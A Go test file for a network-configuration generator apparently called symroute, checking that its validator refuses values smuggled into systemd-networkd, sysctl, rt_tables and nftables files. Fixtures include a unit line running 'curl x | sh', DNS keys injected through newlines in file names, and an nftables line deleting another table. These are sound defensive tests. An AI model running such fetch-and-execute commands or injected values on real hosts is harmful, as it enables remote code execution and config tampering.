package generator

import (
	"strings"
	"testing"
	"testing/fstest"

	"github.com/symroute/symroute/internal/core/description"
	"github.com/symroute/symroute/internal/core/fileset"
	"github.com/symroute/symroute/internal/core/ownership"
	"github.com/symroute/symroute/internal/core/plan"
	"github.com/symroute/symroute/internal/core/report"
	_ "github.com/symroute/symroute/internal/tools/golden"
)

const head = ownership.HeaderPrefix + " from host.yaml.\n# Do not edit.\n"

// TestWallRefusesWhatValidationMustCatch: each rendered line that a value could smuggle into a file is refused,
// one case per rule of the grammar; the lines symroute writes pass.
func TestWallRefusesWhatValidationMustCatch(t *testing.T) {
	network := "etc/systemd/network/10-symroute-eth0.network"
	for _, c := range []struct {
		name, path, body, want string // want: "" means accepted
	}{
		{"own file", network, "[Match]\nName=eth0\n\n[Network]\nIPv6AcceptRA=no\nAddress=10.0.0.1/24\n\n[Route]\nDestination=10.0.0.0/24\nScope=link\nTable=1000000\n\n[RoutingPolicyRule]\nFrom=10.0.0.1/32\nTable=1000000\nPriority=20010\n", ""},
		{"MAC match", network, "[Match]\nPermanentMACAddress=02:00:00:aa:bb:01\n", ""},
		{"injected key", network, "[Match]\nName=eth0\nDNS=1.1.1.1\n", "not a key symroute writes"},
		{"injected section", network, "[Match]\nName=eth0\n[Link]\n", "not a section"},
		{"glob name", network, "[Match]\nName=eth-*\n", "not a valid value for Name"},
		{"two names", network, "[Match]\nName=eth0 eth1\n", "not a valid value for Name"},
		{"inverted name", network, "[Match]\nName=!eth0\n", "not a valid value for Name"},
		{"continued line", network, "[Match]\nName=eth0\\\n", "not a valid value for Name"},
		{"NUL", network, "[Match]\nName=eth\x000\n", "control byte 0x00"},
		{"carriage return", network, "[Match]\nName=eth0\r\n", "control byte 0x0d"},
		{"key before section", network, "Name=eth0\n", "before any section"},
		{"not key=value", network, "[Match]\nName eth0\n", "neither a section"},
		{"comment without space", network, "#DNS=1.1.1.1\n[Match]\nName=eth0\n", "neither a section"},
		{"bad table", network, "[RoutingPolicyRule]\nTable=-1\n", "not a valid value for Table"},
		{"non-canonical prefix", network, "[RoutingPolicyRule]\nFrom=010.0.0.1/32\n", "not a valid value for From"},
		{"sysctl", ownership.SysctlPath, "net.ipv4.conf.eth0.rp_filter = 2\nnet/ipv4/conf/eth0.100/rp_filter = 1\nnet.ipv4.conf.all.rp_filter = 2\n", ""},
		{"sysctl glob", ownership.SysctlPath, "net.ipv4.conf.eth*.rp_filter = 2\n", "not the key of one interface"},
		{"sysctl dotted name in dot form", ownership.SysctlPath, "net.ipv4.conf.eth0.100.rp_filter = 2\n", "not the key of one interface"},
		{"sysctl other key", ownership.SysctlPath, "net.ipv4.ip_forward = 1\n", "not an rp_filter or src_valid_mark assignment"},
		{"sysctl split by =", ownership.SysctlPath, "net.ipv4.conf.a=b.rp_filter = 2\n", "not the key of one interface"},
		{"rt_tables", ownership.RTTablesPath, "1000000 symroute-eth0\n", ""},
		{"rt_tables two words", ownership.RTTablesPath, "1000000 symroute-eth0 x\n", "not a table id"},
		{"networkd.conf", ownership.NetworkdConfPath, "[Network]\nManageForeignRoutingPolicyRules=no\nManageForeignRoutes=no\n", ""},
		{"invalid UTF-8", ownership.RTTablesPath, "# \xff\n", "not valid UTF-8"},
		{"mark rule", network, "[RoutingPolicyRule]\nIncomingInterface=eth0\nFirewallMark=0x00001000/0x00003000\nTable=main\nPriority=20001\nFamily=both\n", ""},
		{"mark outside its mask", network, "[RoutingPolicyRule]\nFirewallMark=0x00004000/0x00003000\n", "not a valid value for FirewallMark"},
		{"mark in decimal", network, "[RoutingPolicyRule]\nFirewallMark=4096/12288\n", "not a valid value for FirewallMark"},
		{"glob input interface", network, "[RoutingPolicyRule]\nIncomingInterface=eth*\n", "not a valid value for IncomingInterface"},
		{"nft table", ownership.ConnmarkRulesetPath, "table inet symroute\ndelete table inet symroute\ntable inet symroute {\n    chain prerouting {\n        iifname \"eth0\" ct direction original ct mark and 0x00001000 == 0x00001000 meta mark set meta mark and 0xffffefff or 0x00001000\n    }\n}\n", ""},
		{"nft quote in a name", ownership.ConnmarkRulesetPath, "        iifname \"eth0\" accept; \"x\" ct direction original ct mark and 0x00001000 == 0x00001000 meta mark set meta mark and 0xffffefff or 0x00001000\n", "not a line of symroute's nftables table"},
		{"nft glob in a name", ownership.ConnmarkRulesetPath, "        iifname \"eth*\" ct direction original ct mark and 0x00001000 == 0x00001000 meta mark set meta mark and 0xffffefff or 0x00001000\n", "not an interface name"},
		{"nft other statement", ownership.ConnmarkRulesetPath, "        ct direction reply drop\n", "not a line of symroute's nftables table"},
		{"nft another table", ownership.ConnmarkRulesetPath, "delete table ip kube-proxy\n", "not a line of symroute's nftables table"},
		{"unit", ownership.ConnmarkUnitPath, "[Service]\nType=oneshot\nExecStart=/usr/sbin/nft -f /etc/symroute/90-symroute.nft\n", ""},
		{"unit runs something else", ownership.ConnmarkUnitPath, "[Service]\nExecStart=/bin/sh -c 'curl x | sh'\n", "not a valid value for ExecStart"},
		{"unit key symroute does not write", ownership.ConnmarkUnitPath, "[Service]\nUser=nobody\n", "not a key symroute writes"},
		{"unknown file", "etc/other.conf", "", "no grammar"},
	} {
		t.Run(c.name, func(t *testing.T) {
			err := checkFile(fileset.File{Path: c.path, Data: []byte(head + c.body)})
			switch {
			case c.want == "" && err != nil:
				t.Errorf("refused: %v", err)
			case c.want != "" && (err == nil || !strings.Contains(err.Error(), c.want)):
				t.Errorf("got %v, want an error containing %q", err, c.want)
			}
		})
	}
}

func TestDescriptionLabel(t *testing.T) {
	for in, want := range map[string]string{
		"host.yaml":                    "host.yaml",
		"fleet/web//host.yaml":         "host.yaml",
		"/etc/symroute/host.yaml":      "host.yaml",
		"web/host.yaml/":               "host.yaml",
		"evil\nDNS=1.1.1.1.yaml":       "",
		"dir/ho st.yaml":               "",
		"-":                            "",
		"x/" + strings.Repeat("a", 65): "",
	} {
		if got := DescriptionLabel(in); got != want {
			t.Errorf("DescriptionLabel(%q) = %q, want %q", in, got, want)
		}
	}
}

// TestDropInRefusesUnsafeTargetNames: the .network file a drop-in extends names the drop-in's directory and
// appears in its comments; a name with a line break is refused, not written.
func TestDropInRefusesUnsafeTargetNames(t *testing.T) {
	h, rep := description.Parse([]byte("version: 1\ninterfaces:\n  - name: eth1\n    mode: drop-in\n    addresses: [10.0.0.1/24]\n"))
	p, planRep := plan.Build(h)
	rep.Merge(planRep)
	if rep.HasErrors(false) {
		t.Fatal(rep.Entries)
	}
	root := fstest.MapFS{"run/systemd/network/10-x\nDNS=1.1.1.1.network": {Data: []byte("[Match]\nName=eth1\n")}}
	files, r, err := Generate(p, Options{Source: "host.yaml", Root: root})
	if err != nil {
		t.Fatal(err)
	}
	if !r.HasErrors(false) || !strings.Contains(r.Entries[0].Message, "control character U+000A") || r.Entries[0].Pos.Line != 4 {
		t.Fatalf("files %v, report %+v", files, r.Entries)
	}
	if r.Entries[0].Severity != report.Error {
		t.Error("not an error")
	}
}

// TestCheckApplied: networkd's own answer on a running host overrules symroute's reading of the files. A drop-in
// must go onto the file networkd applies; an own file must not sort after another file networkd applies.
func TestCheckApplied(t *testing.T) {
	h, rep := description.Parse([]byte("version: 1\ninterfaces:\n  - name: eth-a\n    addresses: [192.168.1.10/24]\n  - name: eth-b\n    mode: drop-in\n    addresses: [10.0.0.1/24]\n"))
	p, rep2 := plan.Build(h)
	if rep.HasErrors(false) || rep2.HasErrors(false) {
		t.Fatal(rep.Entries, rep2.Entries)
	}
	root := fstest.MapFS{"etc/systemd/network/50-eth-b.network": {Data: []byte("[Match]\nName=eth-b\n")}}
	files, rep, err := Generate(p, Options{Root: root})
	if err != nil || rep.HasErrors(false) {
		t.Fatal(err, rep.Entries)
	}
	for _, c := range []struct {
		applied map[string]string
		want    string // the one error, as path: start of the message
	}{
		{map[string]string{}, ""},
		{map[string]string{"eth-a": "/etc/systemd/network/10-symroute-eth-a.network", "eth-b": "/etc/systemd/network/50-eth-b.network"}, ""},
		{map[string]string{"eth-a": "/etc/systemd/network/99-default.network"}, ""},
		{map[string]string{"eth-b": "/run/systemd/network/10-netplan-eth-b.network"}, `interfaces[1].mode: networkd applies "/run/systemd/network/10-netplan-eth-b.network" to eth-b now, but symroute would add its drop-in to "/etc/systemd/network/50-eth-b.network"`},
		{map[string]string{"eth-a": "/run/systemd/network/10-netplan-eth-a.network"}, `interfaces[0].mode: networkd applies "/run/systemd/network/10-netplan-eth-a.network" to eth-a now, and it sorts before 10-symroute-eth-a.network`},
	} {
		var r report.Report
		CheckApplied(p, files, c.applied, &r)
		var got []string
		for _, e := range r.Entries {
			got = append(got, e.Path.String()+": "+e.Message)
		}
		if c.want == "" && len(got) != 0 || c.want != "" && (len(got) != 1 || !strings.HasPrefix(got[0], c.want)) {
			t.Errorf("applied %v:\n%s", c.applied, strings.Join(got, "\n"))
		}
	}
}
